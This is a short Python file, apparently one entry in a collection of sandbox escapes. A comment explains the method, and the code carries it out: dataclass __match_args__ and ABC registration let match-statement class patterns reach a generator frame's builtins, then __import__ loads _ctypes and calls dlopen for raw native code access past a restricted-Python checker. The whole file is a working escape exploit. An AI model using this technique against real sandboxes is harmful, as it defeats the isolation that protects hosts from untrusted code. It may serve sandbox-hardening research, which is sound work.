# family: FFI
# escape: dataclass fields named gi_frame / f_builtins give __match_args__ that no rule checks; ABC-registering the
# generator and frame types (register(subclass=...) is not the one-positional .register form) lets class patterns
# read gen.gi_frame.f_builtins, the builtins dict; its __import__ loads _ctypes, whose dlopen is raw FFI.
import abc
import dataclasses

@dataclasses.dataclass
class G(abc.ABC):
    gi_frame: object

@dataclasses.dataclass
class F(abc.ABC):
    f_builtins: dict

def tool(word: str = "import"):
    gen = (x for x in ())
    G.register(subclass=type(gen))
    match gen:
        case G(frame):
            F.register(subclass=type(frame))
            match frame:
                case F(table):
                    return table["__" + word + "__"]("_ctypes").dlopen(None)
